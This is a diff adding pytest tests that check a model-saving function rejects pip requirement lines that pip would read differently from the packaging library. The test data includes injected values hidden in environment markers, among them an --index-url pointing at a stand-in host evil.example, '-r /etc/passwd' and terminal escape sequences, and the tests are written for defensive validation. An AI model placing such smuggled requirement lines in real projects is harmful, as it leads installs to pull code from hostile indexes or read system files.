@@ -193,3 +193,41 @@ def test_requirements_refuse_options_and_urls(tmp_path: Path, line: str) -> None
     assert info.value.field == "extra_pip_requirements[1]"
     with pytest.raises(InvalidInputError, match="a list of requirement strings"):
         save_model(fitted, tmp_path / "m", pip_requirements="pandas>=2")
+
+
+# Lines packaging accepts but pip reads otherwise: an option split off inside a marker's quoted string, an
+# environment variable pip expands, a comment, a line join, characters that split lines or drive a terminal.
+PIP_SYNTAX = {
+    "option in a marker": 'foo; python_version == "x --index-url=http://evil.example/simple"',
+    "hash option in a marker": """foo; python_version == "' --hash=sha256:00" and python_version != '"'""",
+    "-r in a marker": 'foo==1.0; python_version>="3" and platform_release == " -r /etc/passwd"',
+    "environment variable": 'foo; os_name == "${HOME}"',
+    "comment": 'foo; os_name == "a #b"',
+    "line join": 'foo; os_name == "a\\"',
+    "escape sequence": 'foo; os_name == "\x1b[2J\x1b[Hclean"',
+    "tab before an option": 'foo; os_name == "a\t--index-url=http://evil.example/simple"',
+    "unicode line separator": 'foo; os_name == "a\u2028--index-url=http://evil.example/simple"',
+}
+
+
+@pytest.mark.parametrize("line", PIP_SYNTAX.values(), ids=PIP_SYNTAX.keys())
+def test_requirements_refuse_what_pip_reads_differently(tmp_path: Path, line: str) -> None:
+    from sklearn.linear_model import LinearRegression
+
+    fitted = LinearRegression().fit(pd.DataFrame({"x": [0.0, 1.0]}), [0.0, 1.0])
+    for field, kwargs in (("extra_pip_requirements[1]", {"extra_pip_requirements": ["pandas>=2", line]}),
+                          ("pip_requirements[1]", {"pip_requirements": ["pandas>=2", line]})):
+        with pytest.raises(InvalidInputError, match="control characters") as info:
+            save_model(fitted, tmp_path / "m", **kwargs)
+        assert info.value.field == field and info.value.value == line
+
+
+def test_requirements_keep_markers_and_extras(tmp_path: Path) -> None:
+    from sklearn.linear_model import LinearRegression
+
+    fitted = LinearRegression().fit(pd.DataFrame({"x": [0.0, 1.0]}), [0.0, 1.0])
+    lines = ['pandas[performance]>=2; python_version >= "3.11"', "pyarrow>=15,<20; sys_platform != 'win32'",
+             "scikit-learn>=1.4", "mylib-extra_name.x>=1.2.post1"]
+    manifest = save_model(fitted, tmp_path / "m", extra_pip_requirements=lines)
+    assert all(line in manifest["pip_requirements"] for line in lines)
+    assert load_model(tmp_path / "m", cache=False).manifest["pip_requirements"] == manifest["pip_requirements"]
